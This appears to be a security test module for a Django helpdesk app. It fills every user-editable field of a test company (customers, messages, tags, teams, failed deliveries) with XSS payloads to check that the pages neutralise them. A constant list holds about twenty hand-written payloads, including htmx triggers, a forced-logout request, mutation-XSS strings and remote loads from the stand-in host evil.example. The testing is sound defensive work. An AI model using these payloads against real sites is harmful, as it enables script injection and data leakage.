"""Puts attack strings into every field of a furnished company that strangers or colleagues can fill.

Runs in the product's own environment: `product.python("from tests.security import vectors; vectors.plant(…)")`. Mails go
through the real intake (`arriving`). All else is written straight into the database beside them, so that nothing on the
way in can be what saves the pages.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.security import arriving

BATCH = 200
# What the public collections lack: attacks on htmx, on our own attributes, on the frame, and quiet loads from elsewhere.
OWN = [
    '<div hx-get="//evil.example/x" hx-trigger="load">x</div>',
    '<div data-hx-get="/accounts/logout/" data-hx-trigger="load">x</div>',
    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button>x</button></form>',
    '<img srcset="//evil.example/a.png 1x, https://evil.example/b.png 2x">',
    '<img src="https:evil.example/a.png">',
    '<table background="//evil.example/bg.png"><td background=//evil.example/bg.png>x</td></table>',
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="background-image:\\75rl(//evil.example/x);position:fixed;top:0">x</p>',
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>",
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=prefetch href=//evil.example/p>',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<video src=//evil.example/v poster=//evil.example/p autoplay></video><audio src=//evil.example/a></audio>",
    "<svg><image href=//evil.example/i /><use href=//evil.example/u#x /><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=//evil.example/o></object>',
    '<a href="jav&#x09;ascript:alert(1)" target=_top ping=//evil.example/ping>x</a>',
    '<img data-remote-src="javascript:alert(1)" src=x><img data-remote-src="//evil.example/x">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "{{7*7}}${alert(1)}<template><script>alert(1)</script></template>",
]


def read(shared_data: Path) -> list[str]:
    """The public collection and our own."""
    lines = (shared_data / "security" / "xss_vectors.jsonl").read_text("utf-8").splitlines()
    return [json.loads(line)["payload"] for line in lines] + OWN


def plant(path: str) -> None:
    """Fill the company; prints what the pages are, as JSON: conversations by batch, messages to see framed."""
    from django.db import transaction

    from rapport.kit.text import storable

    payloads = [storable(payload) for payload in json.loads(Path(path).read_text("utf-8"))]
    batches = [payloads[at : at + BATCH] for at in range(0, len(payloads), BATCH)]
    clean = arriving.read_alone(payloads)
    arriving.hurry()
    with transaction.atomic():
        threads = [arriving.arrive(each, clean[BATCH * n :][:BATCH], n) for n, each in enumerate(batches)]
        leaving = [
            html for (thread, _), batch in zip(threads, batches, strict=True) for html in arriving.leave(thread, batch)
        ]
        Path(path).with_name("leaving.json").write_text(json.dumps(leaving))
        _people(payloads)
        _rows(payloads)
        for (thread, _), batch in zip(threads, batches, strict=True):
            _thread(thread, batch)
        troubles = _troubles(payloads[::60])
    print(json.dumps({"threads": [thread for thread, _ in threads], "framed": [ids for _, ids in threads], **troubles}))


def _rows(payloads: list[str]) -> None:
    """One conversation each: subject, preview, attention, tag, and the customer's name, notes and address."""
    from rapport.channels.models import Inbox
    from rapport.conversations.models import Conversation, ConversationTag, Tag
    from rapport.people.models import Customer, CustomerAddress

    inbox = Inbox.objects.get()
    customers = Customer.objects.bulk_create(
        [Customer(name=each[:160], notes=each, phone=each[:40], language=each[:12]) for each in payloads]
    )
    CustomerAddress.objects.bulk_create(
        [CustomerAddress(customer=one, email=f"{n} {one.name}"[:254]) for n, one in enumerate(customers)]
    )
    rows = Conversation.objects.bulk_create(
        [
            Conversation(
                subject=each, preview=each[:200], attention=each[:200], customer=customer, inbox=inbox, team=inbox.team,
                channel="email", last_message_id=1, message_count=2,
            )
            for each, customer in zip((each[:500] for each in payloads), customers, strict=True)
        ]
    )  # fmt: skip
    tags = Tag.objects.bulk_create([Tag(name=each[:60], folded=f"{n}") for n, each in enumerate(payloads)])
    ConversationTag.objects.bulk_create(
        [ConversationTag(conversation=row, tag=tag) for row, tag in zip(rows, tags, strict=True)]
    )


def _thread(conversation_id: int, payloads: list[str]) -> None:
    """Beside what arrived: a mail of strings in every text, notes nobody sanitised, troubles, events, suggestions."""
    from rapport.conversations.models import Conversation, Message, Participant
    from rapport.events.models import Event
    from rapport.kit import clock

    now = clock.now()
    conversation = Conversation.objects.get(pk=conversation_id)
    whole = "\n".join(payloads)
    rich = " <hr> ".join(payloads)
    tens = [payloads[at : at + 10] for at in range(0, len(payloads), 10)]
    Message.objects.bulk_create(
        [
            Message(
                conversation=conversation, kind="customer", sender_name=ten[0][:160], sender_email=ten[1 % len(ten)][:254],
                text="x", reply_text="x", problems=[each[:200] for each in ten],
            )
            for ten in tens
        ]
    )  # fmt: skip
    texts = {"text": whole, "reply_text": whole, "quoted_text": whole, "signature": whole, "forwarded": whole}
    Message.objects.create(conversation=conversation, kind="customer", **texts)
    Message.objects.create(conversation=conversation, kind="note", html=rich)
    Event.objects.bulk_create(
        [
            Event(
                kind=kind,
                subject_id=conversation.pk,
                conversation_id=conversation.pk,
                at=now,
                data={"name": each, "to": each},
            )
            for each in payloads[::10]
            for kind in ("conversation.tagged", "conversation.subject")
        ]
    )
    Participant.objects.bulk_create(
        [
            Participant(conversation=conversation, email=f"{n}{each}"[:254], name=each[:160], role="suggested")
            for n, each in enumerate(payloads[:10])
        ]
    )


def _people(payloads: list[str]) -> None:
    """Colleagues, teams and inboxes with such names and signatures, on every page with a menu of them."""
    from rapport.people import installing
    from rapport.people.models import Account, Role, Team

    role = Role.objects.get(key="agent")
    chosen = list(dict.fromkeys(each[:80] for each in payloads[::200]))
    Account.objects.bulk_create(
        [Account(email=f"{n}@fleur.example", name=each, role=role) for n, each in enumerate(chosen)]
    )
    Team.objects.bulk_create([Team(name=each, signature_html=each) for each in chosen])
    installing.change(company_name=chosen[0], open_to_all=False, by=None)


def _troubles(payloads: list[str]) -> dict[str, Any]:
    """What the status page tells of: refused deliveries and mail that could not be read."""
    from rapport.channels.models import Inbox
    from rapport.intake.models import RawMessage
    from rapport.outbox.models import Delivery
    from rapport.people.models import Invitation, Role

    inbox = Inbox.objects.get()
    inbox.name = payloads[1][:120]
    inbox.save()
    Delivery.objects.bulk_create(
        [
            Delivery(inbox=inbox, state="failed", recipients=[each], last_answer=each, external_id=each[:500])
            for each in payloads
        ]
    )
    RawMessage.objects.bulk_create(
        [
            RawMessage(inbox=inbox, sha256="0" * 64, size=1, source="door", state="parked", last_error=each,
                       envelope_from=each[:254])
            for each in payloads
        ]
    )  # fmt: skip
    from rapport.kit import clock

    Invitation.objects.create(
        email=payloads[0][:254], name=payloads[3][:120], role=Role.objects.get(key="agent"), token_sha256="x",
        expires_at=clock.now(),
    )  # fmt: skip
    return {"team": inbox.team_id, "inbox": inbox.pk}
